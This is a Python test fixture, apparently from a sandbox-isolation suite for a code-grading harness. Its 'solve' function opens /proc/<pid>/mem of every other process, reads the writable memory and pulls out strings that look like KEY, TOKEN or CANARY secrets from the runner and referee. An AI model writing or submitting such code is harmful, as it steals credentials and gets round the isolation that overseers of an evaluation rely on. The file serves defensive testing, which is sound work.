"""Hostile: opens /proc/<pid>/mem of every other process it can see (the runner, the referee) for reading and writing, reads their writable memory and raises with what looks like secrets.

In the sandbox it sees no judge process: only the sandbox's init, which holds nothing of the judge's.

Problem: p28
DSL: cutedsl
Device: cpu
Expected: runtime_error
Also: policy_violation
"""
import os
import re


def _scan(pid: str) -> list[str]:
    hits = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb+") as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "rw" not in perms:
                continue
            start, end = (int(v, 16) for v in span.split("-"))
            try:
                mem.seek(start)
                data = mem.read(min(end - start, 8 << 20))
            except OSError:
                continue
            hits += [m.decode(errors="replace") for m in re.findall(rb"[A-Z0-9_]*(?:KEY|CANARY|TOKEN)=[^\0]{4,80}", data)]
    return hits


def solve(x, residual, weight):
    report = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            report.append(f"{pid}: {_scan(pid)[:20]}")
        except OSError as exc:
            report.append(f"{pid}: {exc.strerror}")
    raise RuntimeError("memory of other processes: " + "; ".join(report))
